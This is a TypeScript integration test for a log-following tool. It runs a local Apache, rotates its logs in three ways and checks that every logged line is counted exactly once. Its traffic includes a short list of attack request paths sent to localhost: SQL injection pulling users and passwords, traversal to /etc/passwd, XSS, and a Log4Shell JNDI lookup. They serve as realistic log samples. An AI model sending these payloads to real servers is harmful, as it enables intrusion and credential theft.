import { type ChildProcess, spawn } from 'node:child_process';
import { once } from 'node:events';
import {
  copyFileSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  renameSync,
  rmSync,
  truncateSync,
  writeFileSync,
} from 'node:fs';
import { Agent, request } from 'node:http';
import { type AddressInfo, createServer } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { gunzipSync, gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { apacheLogs } from '../../src/commands/tail/apache-logs.ts';
import { type LedgerRow, openState } from '../../src/state/state.ts';
import { ROOT } from '../support/run-cli.ts';

const APACHE = '/usr/sbin/apache2';
const MODULES = '/usr/lib/apache2/modules';
const ROTATELOGS = '/usr/bin/rotatelogs';
const HOSTS = ['renamed', 'copied', 'piped'] as const;
type Host = (typeof HOSTS)[number];

const ROUNDS = 8;
const ROUND_MS = 1500;
const CLIENTS = 6;
const PATIENCE_MS = 120_000;
const ATTACKS = [
  '/item?id=1%27%20UNION%20SELECT%20user%2Cpassword%20FROM%20users--%20-',
  '/../../../../etc/passwd',
  '/search?q=%3Cscript%3Ealert(1)%3C/script%3E',
  '/?x=${jndi:ldap://203.0.113.9/a}',
];

async function freePort(): Promise<number> {
  const server = createServer().listen(0, '127.0.0.1');
  await once(server, 'listening');
  const { port } = server.address() as AddressInfo; // it listens on a port
  server.close();
  return port;
}

async function waitFor(what: string, isThere: () => boolean | Promise<boolean>): Promise<void> {
  for (const deadline = Date.now() + PATIENCE_MS; Date.now() < deadline; await sleep(100)) if (await isThere()) return;
  throw new Error(`waited in vain for ${what}`);
}

/** An Apache of our own, with a virtual host for each way of rotating its log. */
class World {
  readonly folder = mkdtempSync(join(tmpdir(), 'sightline-httpd-'));
  readonly logs = join(this.folder, 'logs');
  readonly config = join(this.folder, 'httpd.conf');
  readonly statePath = join(this.folder, 'sightline.db');
  readonly #agent = new Agent({ keepAlive: true, maxSockets: CLIENTS });
  readonly #running = new Map<Host, Set<Promise<void>>>(HOSTS.map((host) => [host, new Set()]));
  readonly #paused = new Set<Host>();
  #port = 0;
  #apache: ChildProcess | null = null;
  #sightline: ChildProcess | null = null;
  #errors = '';

  async open(): Promise<void> {
    this.#port = await freePort();
    mkdirSync(this.logs);
    const isRoot = process.getuid?.() === 0;
    writeFileSync(
      this.config,
      `ServerRoot ${this.folder}
      PidFile httpd.pid
      Listen 127.0.0.1:${this.#port}
      ServerName main.example.org
      ErrorLog error.log
      DefaultRuntimeDir ${this.folder}
      ${isRoot ? 'User www-data\nGroup www-data' : ''}
      LoadModule mpm_event_module ${MODULES}/mod_mpm_event.so
      LoadModule authz_core_module ${MODULES}/mod_authz_core.so
      LogFormat "%h %l %u %t \\"%r\\" %>s %O \\"%{Referer}i\\" \\"%{User-Agent}i\\"" combined
      CustomLog logs/main.log combined
      ${this.#host('renamed', 'logs/renamed.log')}
      ${this.#host('copied', 'logs/copied.log')}
      ${this.#host('piped', `"|${ROTATELOGS} ${this.logs}/piped.%Y%m%d%H%M%S 2"`)}`,
    );
    this.#apache = spawn(APACHE, ['-D', 'FOREGROUND', '-f', this.config], { stdio: ['ignore', 'ignore', 'inherit'] });
    await waitFor('Apache', () => this.ask('renamed', '/').then(Boolean));
  }

  #host(name: Host, log: string): string {
    return `<VirtualHost *:${this.#port}>\nServerName ${name}.example.org\nCustomLog ${log} combined\n</VirtualHost>`;
  }

  async follow(): Promise<void> {
    const { patterns } = apacheLogs(this.config);
    const cli = join(ROOT, 'dist', 'cli.js');
    const child = spawn(process.execPath, [cli, 'tail', ...patterns, '--dry-run', '--state', this.statePath], {
      cwd: this.folder,
      stdio: ['ignore', 'ignore', 'pipe'],
    });
    child.stderr.on('data', (chunk) => {
      this.#errors += chunk;
    });
    this.#sightline = child;
    // What is rotated away before it is first looked at belongs to nobody.
    const told = this.#errors.length;
    await waitFor('Sightline', () => this.#errors.slice(told).includes('"msg":"reading"'));
  }

  async stopFollowing(signal: NodeJS.Signals): Promise<number | null> {
    const child = this.#sightline;
    if (child === null) return null;
    const closed = once(child, 'close');
    child.kill(signal);
    await closed;
    this.#sightline = null;
    return child.exitCode;
  }

  /** What Sightline said. */
  get errors(): string {
    return this.#errors;
  }

  /** One request; false if there was no answer, which says nothing of whether it was logged. */
  ask(host: Host, path: string): Promise<boolean> {
    return new Promise((resolve) => {
      const headers = { host: `${host}.example.org`, 'user-agent': 'Mozilla/5.0' };
      request({ host: '127.0.0.1', port: this.#port, path, headers, agent: this.#agent }, (response) => {
        response.resume().on('close', () => resolve(true));
      })
        .on('error', () => resolve(false))
        .end();
    });
  }

  /** Asks for one thing after the other until it is told to stop. */
  async browse(client: number, signal: AbortSignal): Promise<void> {
    for (let i = 0; !signal.aborted; i++) {
      const host = HOSTS[(client + i) % HOSTS.length] ?? 'renamed';
      if (this.#paused.has(host)) {
        await sleep(1);
        continue;
      }
      const path = i % 50 === 0 ? (ATTACKS[(i / 50) % ATTACKS.length] ?? '/') : `/page/${client}/${i}`;
      const running = this.#running.get(host);
      const asked = this.ask(host, path).then(() => {});
      running?.add(asked);
      await asked;
      running?.delete(asked);
    }
  }

  /** logrotate with `create` and `delaycompress`: the last but one is compressed. */
  rotateByRename(): void {
    const log = join(this.logs, 'renamed.log');
    for (let age = ROUNDS; age > 0; age--) {
      for (const end of ['', '.gz']) {
        const old = `${log}.${age}${end}`;
        if (existsSync(old)) renameSync(old, `${log}.${age + 1}${end}`);
      }
    }
    renameSync(log, `${log}.1`);
    this.#apache?.kill('SIGUSR1');
    const last = `${log}.3`;
    if (!existsSync(last)) return;
    writeFileSync(`${last}.gz`, gzipSync(readFileSync(last)));
    rmSync(last);
  }

  /**
   * logrotate with `copytruncate`. What is logged between the copy and the truncation is nowhere afterwards, so that
   * nothing may be.
   */
  async rotateByCopy(round: number): Promise<void> {
    const log = join(this.logs, 'copied.log');
    this.#paused.add('copied');
    await Promise.all(this.#running.get('copied') ?? []);
    await waitFor('a quiet log', async () => {
      const before = readFileSync(log).length;
      await sleep(200);
      return readFileSync(log).length === before;
    });
    copyFileSync(log, `${log}-202611${String(round + 10)}`);
    truncateSync(log);
    this.#paused.delete('copied');
  }

  /** Lines that Apache wrote for a virtual host, whatever has become of the files. */
  linesWritten(host: Host): number {
    const files = readdirSync(this.logs).filter((name) => name.startsWith(host));
    const texts = files.map((name) => {
      const bytes = readFileSync(join(this.logs, name));
      return (name.endsWith('.gz') ? gunzipSync(bytes) : bytes).toString('latin1');
    });
    return texts.reduce((lines, text) => lines + text.split('\n').length - 1, 0);
  }

  /** What Sightline says became of them. */
  accounts(host: Host): readonly LedgerRow[] {
    const state = openState(this.statePath, { access: 'read' });
    try {
      return state.load().ledger.filter(({ source }) => source.startsWith(join(this.logs, host)));
    } finally {
      state.close();
    }
  }

  async close(): Promise<void> {
    this.#agent.destroy();
    await this.stopFollowing('SIGKILL');
    if (this.#apache !== null) {
      const closed = once(this.#apache, 'close');
      this.#apache.kill('SIGTERM');
      await closed;
    }
    rmSync(this.folder, { recursive: true });
  }
}

const sum = (rows: readonly LedgerRow[], of: (row: LedgerRow) => number) =>
  rows.reduce((total, row) => total + of(row), 0);

describe.skipIf(!existsSync(APACHE) || !existsSync(ROTATELOGS))(
  'beside a real Apache (needs the package apache2)',
  () => {
    let world: World;
    let exitCode: number | null = null;

    beforeAll(async () => {
      world = new World();
      await world.open();
      await world.follow();
      const stop = new AbortController();
      const clients = Array.from({ length: CLIENTS }, (_, client) => world.browse(client, stop.signal));
      for (let round = 0; round < ROUNDS; round++) {
        await sleep(ROUND_MS);
        world.rotateByRename();
        await world.rotateByCopy(round);
        if (round === 2) await world.stopFollowing('SIGKILL');
        // Down for two rotations of each kind.
        if (round === 4) await world.follow();
      }
      stop.abort();
      await Promise.all(clients);
      await waitFor('Sightline to catch up', () =>
        HOSTS.every((host) => sum(world.accounts(host), ({ lines }) => lines) >= world.linesWritten(host)),
      ).catch(() => {}); // What is missing is told below.
      exitCode = await world.stopFollowing('SIGTERM');
    }, 600_000);

    afterAll(() => world.close());

    it.each(HOSTS)('every line of the log that is %s is accounted for once', (host) => {
      const written = world.linesWritten(host);
      const rows = world.accounts(host);
      expect(written).toBeGreaterThan(ROUNDS * CLIENTS);
      expect(sum(rows, ({ lines }) => lines)).toBe(written);
      expect(sum(rows, ({ parsed }) => parsed)).toBe(written);
      expect(sum(rows, ({ lostBytes }) => lostBytes)).toBe(0);
    });

    it('the log of a program that rotates is several files', () => {
      expect(world.accounts('piped').length).toBeGreaterThan(3);
    });

    it('nothing was lost or could not be read', () => {
      expect(world.errors.split('\n').filter((line) => /"level":"(?:warn|error)"/.test(line))).toEqual([]);
      expect(exitCode).toBe(0);
    });
  },
);
